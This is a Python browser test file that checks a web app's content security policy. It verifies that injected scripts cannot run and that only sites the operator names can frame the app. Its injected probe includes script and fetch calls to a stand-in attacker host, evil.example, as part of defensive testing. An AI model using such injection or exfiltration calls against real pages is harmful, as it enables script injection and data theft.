"""The policy of the app's pages holds in a browser: no script of others runs, and no other site shows the app."""

import pytest

from tests.browser.conftest import hosting, serving
from tests.browser.support import turn_to

pytestmark = pytest.mark.browser

INJECTED = """async () => {
  const refused = []
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective))
  document.body.insertAdjacentHTML("beforeend", "<img src=none onerror='hit = 1'>")
  for (const [name, value] of [["textContent", "hit = 1"], ["src", "https://evil.example/a.js"]])
    document.body.append(Object.assign(document.createElement("script"), { [name]: value }))
  setTimeout(() => { try { (0, eval)("hit = 1") } catch {} })  // what Playwright itself evaluates may
  try { await fetch("https://evil.example/?text=") } catch {}
  await new Promise((wake) => setTimeout(wake, 300))
  return { hit: window.hit ?? null, refused: [...new Set(refused)].sort() }
}"""


def test_a_script_that_got_into_the_page_does_not_run(server, chromium):
    page = chromium.new_page()
    page.goto(server)
    page.wait_for_selector(".vf-root[data-painted]")
    found = page.evaluate(INJECTED)
    page.close()
    assert found["hit"] is None
    assert set(found["refused"]) == {"connect-src", "script-src", "script-src-attr", "script-src-elem"}


def test_a_picture_of_plotly_s_is_downloaded(open_app):
    page = open_app()
    turn_to(page, "Decoding")
    page.locator(".js-plotly-plot").first.hover()
    with page.expect_download() as waiting:
        page.locator(".modebar-btn").first.click()
    assert waiting.value.path().read_bytes()[1:4] == b"PNG"


@pytest.fixture
def embed(chromium, tmp_path):
    """Opens another site whose page shows an address; the frame in it."""
    with hosting(tmp_path) as site:
        page = chromium.new_page()

        def show(address):
            (tmp_path / "index.html").write_text(f'<iframe src="{address}" width=1200 height=800></iframe>')
            page.goto(site)
            return page.frame_locator("iframe")

        show.site = site
        yield show
        page.close()


def test_no_other_site_shows_the_app(embed, server):
    shown = embed(server)
    assert shown.locator("#root").count() == 0


def test_a_site_that_the_operator_names_shows_the_app(embed, model_name, tmp_path):
    (tmp_path / "log").mkdir()
    with serving(model_name, tmp_path / "log", VISFORMER_FRAME_ANCESTORS=embed.site) as address:
        embed(address).locator(".vf-root[data-painted]").wait_for()
